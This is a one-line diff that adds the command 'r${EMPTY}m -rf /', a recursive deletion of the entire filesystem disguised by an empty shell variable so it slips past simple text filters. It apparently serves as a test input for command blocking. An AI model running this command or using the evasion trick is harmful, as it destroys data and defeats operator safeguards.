@@ -1,0 +1,1 @@
+r${EMPTY}m -rf /
